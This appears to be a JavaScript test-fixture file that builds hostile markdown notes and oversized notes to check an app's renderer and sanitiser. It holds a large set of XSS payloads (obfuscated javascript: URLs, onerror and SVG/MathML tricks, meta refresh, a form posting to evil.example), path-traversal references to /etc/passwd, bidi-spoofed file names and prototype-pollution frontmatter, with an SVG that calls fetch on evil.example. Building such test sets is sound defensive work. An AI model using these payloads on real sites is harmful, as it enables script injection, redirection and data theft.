// Notes that try to run something, to send something, to lead somewhere or to look like
// something else. Each would set `window.pwned`, open a dialog, ask another host or move
// the page if it worked.
const RUN = "window.pwned=1;alert(1)";
const AWAY = "https://evil.example";

/** Every way of writing a scheme that runs code. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript&#x3A;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `\\u006aavascript:${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript:%77indow.pwned=1`,
  `javascript://%0a${RUN}`,
  `javascript:/*${AWAY}*/${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `DATA:application/xhtml+xml,<x/>`,
  `blob:${AWAY}/x`,
  `filesystem:${AWAY}/x`,
  `file:///etc/passwd`,
  `intent://x#Intent;end`,
  `//evil.example/x`,
  `\\\\evil.example/x`,
];

const links = SCHEMES.flatMap((address, number) => [
  `[link ${number}](<${address}>)`,
  `[bare ${number}](${address.replaceAll(" ", "%20")})`,
  `![image ${number}](<${address}>)`,
  `<a href="${address.replaceAll('"', "'")}">raw ${number}</a>`,
  `[[${address}|wiki ${number}]]`,
  `[ref ${number}][r${number}]\n\n[r${number}]: <${address}> "title"`,
]);

const TAGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<script type=module>import "${AWAY}/x.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src='x'/onerror='${RUN}'>`,
  `<img srcset="${AWAY}/x.png 1x" src="/nowhere.png">`,
  `<picture><source srcset="${AWAY}/x.png"><img src="x"></picture>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<button formaction="javascript:${RUN}" autofocus>x</button>`,
  `<video autoplay onloadstart="${RUN}" src="${AWAY}/x.mp4"><source onerror="${RUN}"></video>`,
  `<audio src="${AWAY}/x.ogg" autoplay onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe src="${AWAY}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<style>*{display:none!important}@import "${AWAY}/x.css";body{background:url(${AWAY}/x.png)}</style>`,
  `<link rel=stylesheet href="${AWAY}/x.css">`,
  `<link rel=preload as=script href="${AWAY}/x.js">`,
  `<link rel=dns-prefetch href="${AWAY}">`,
  `<p style="position:fixed;inset:0;background:url(${AWAY}/x.png);z-index:99999">covered</p>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="${AWAY}/x.swf"></object><embed src="${AWAY}/x.swf">`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<applet code=x></applet><frameset><frame src="${AWAY}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta name="referrer" content="unsafe-url">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}" method=post><input name=a value=b><button>Send</button></form>`,
  `<form id=query><input name=attributes><input name=parentNode></form>`,
  `<img name=body><img name=getElementById><img id=hits><img id=reader><a id=query href=x>x</a>`,
  `<a href="#/status" class="hit" data-id="aaaaaa" id="announce">x</a>`,
  `<div data-id="aaaaaa" data-file="../../../../etc/passwd" data-line="9999999">x</div>`,
  `<img data-file="../secret.png" alt="stolen">`,
  `<dialog open>Signed out. <input placeholder="Token"></dialog>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<xmp><img src=x onerror="${RUN}"></xmp><plaintext>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
  `<custom-element onclick="${RUN}" is=x>x</custom-element>`,
  `<a href="${AWAY}" ping="${AWAY}/ping" target=_self onmouseover="${RUN}">ping</a>`,
  `<a href="${AWAY}" target=_top download>top</a>`,
  `<isindex action="javascript:${RUN}"><keygen autofocus onfocus="${RUN}">`,
  `<portal src="${AWAY}"></portal><fencedframe src="${AWAY}"></fencedframe>`,
];

const IMAGES = [
  `![remote](${AWAY}/x.png)`,
  `![up](../secret.png)`,
  `![up](..%2fsecret.png)`,
  `![up](..%5csecret.png)`,
  `![up](%2e%2e/%2e%2e/secret.png)`,
  `![root](/etc/hostname)`,
  `![file](file:///etc/passwd)`,
  `![null](x%00.png)`,
  `![device](/dev/zero)`,
  `![note](script.md)`,
  `![svg](evil.svg)`,
  `![lying](lying.png)`,
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1" width="80" height="40">
<script>parent.pwned=1;fetch("${AWAY}")</script><image href="${AWAY}/x.png"/>
<style>@import url(${AWAY}/x.css)</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}"/></foreignObject>
<rect width="80" height="40" fill="tomato"/></svg>`;

/** Marks of direction, control characters and letters that look alike. */
const ODD = "\u202Egnp.exe\u202C \u2066x\u2069 \u200Bzero\u200D \u0007bell \u001B[31mred\u001B[0m \uFEFF \u00AD";

const page = (title, lines) => `---\ntitle: ${JSON.stringify(title)}\n---\n\nhostile note\n\n${lines.join("\n\n")}\n`;

/** The notes, by file name below the folder of notes. */
export const NOTES = {
  "notes/hostile/links.md": page("Links that run", links),
  "notes/hostile/tags.md": page("Tags that run", TAGS),
  "notes/hostile/tags-reversed.md": page("Tags backwards", [...TAGS].reverse()),
  // Each in a paragraph, where other rules of markdown hold.
  "notes/hostile/inline.md": page("Tags inline", TAGS.map((tag) => `word ${tag.replaceAll("\n", " ")} word`)),
  "notes/hostile/quoted.md": page("Tags in lists", TAGS.map((tag) => `> - * ${tag}`)),
  "notes/hostile/images.md": page("Images from elsewhere", IMAGES),
  "notes/hostile/evil.svg": SVG,
  "notes/hostile/lying.png": `<html><script>parent.pwned=1</script></html>`,
  "notes/hostile/markup.md": page(`<img src=x onerror="${RUN}"> <b>title</b>`, [`<h1 id=reader>hostile</h1>`]),
  "notes/hostile/odd.md": page(`hostile ${ODD}`, [`hostile ${ODD}`, "hostile \u{E0041}\u{E0042}"]),
  [`notes/hostile/<img src=x onerror=alert(1)>.md`]: "# hostile file name\n\nhostile\n",
  "notes/hostile/\u202Egpj.\u2066odd\u2069.md": "# hostile direction\n\nhostile\n",
  "notes/hostile/fields.md": `---
title: Fields that run
tags: ["<img src=x onerror=alert(1)>", "javascript:alert(1)", "\\u202Egat", "a\\"onclick=\\"x"]
kind: "<script>alert(1)</script>"
project: "javascript:alert(1)"
"<b>name</b>": "<img src=x onerror='window.pwned=1'>"
__proto__: polluted
constructor: {prototype: {pwned: 1}}
url: "javascript:window.pwned=1"
---

hostile fields
`,
};

/** Returns notes that are large in one way or another. */
export function heavy() {
  const words = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor ";
  const link = (number) => `[[${number % 7 ? "Deep work" : `Nowhere ${number}`}]] [x](y${number}.md)`;
  const row = (number) => `|${Array.from({ length: 20 }, (_, cell) => `${number}.${cell}`).join("|")}|`;
  const many = (count, make) => Array.from({ length: count }, (_, number) => make(number)).join("\n");
  const start = (title) => `# ${title}\n\nheavyweight\n\n`;
  return {
    "notes/heavy/long.md": start("Nine megabytes") + many(9 * 8192, () => words.repeat(2).slice(0, 127) + "\n"),
    "notes/heavy/one-line.md": start("One line") + words.repeat(26_000),
    "notes/heavy/one-word.md": start("One word") + "x".repeat(2_000_000),
    "notes/heavy/links.md": start("Many links") + many(50_000, link),
    "notes/heavy/table.md": `${start("A huge table")}${row(0)}\n|${"-|".repeat(20)}\n${many(20_000, row)}\n`,
    "notes/heavy/wide.md": `${start("A wide table")}|${"a|".repeat(3000)}\n|${"-|".repeat(3000)}\n|${"b|".repeat(3000)}\n`,
    "notes/heavy/quotes.md": start("Deep quotes") + ">".repeat(50_000) + " deep",
    "notes/heavy/lists.md": start("Deep lists") + many(400, (depth) => `${" ".repeat(depth * 2)}- ${depth}`),
    "notes/heavy/brackets.md": start("Brackets") + "[".repeat(100_000) + "](".repeat(50_000),
    "notes/heavy/stars.md": start("Stars") + "*a **b ".repeat(50_000),
    "notes/heavy/ticks.md": start("Ticks") + many(2000, (count) => `${"`".repeat(count % 300)} x`),
    "notes/heavy/tags.md": start("Nested tags") + "<div>".repeat(50_000) + "<b><i>".repeat(20_000),
    "notes/heavy/entities.md": start("Entities") + "&lt;&#x41;&nbsp;&unknown;".repeat(50_000),
    "notes/heavy/headings.md": start("Many headings") + many(20_000, (number) => `## Heading ${number}\n\ntext\n`),
    "notes/heavy/code.md": `${start("Much code")}\`\`\`rust\n${many(50_000, (n) => `let x${n} = ${n};`)}\n\`\`\`\n`,
    "notes/heavy/footnotes.md": start("Footnotes") + many(5000, (n) => `text[^${n}]\n\n[^${n}]: note [^${(n + 1) % 5000}]\n`),
  };
}
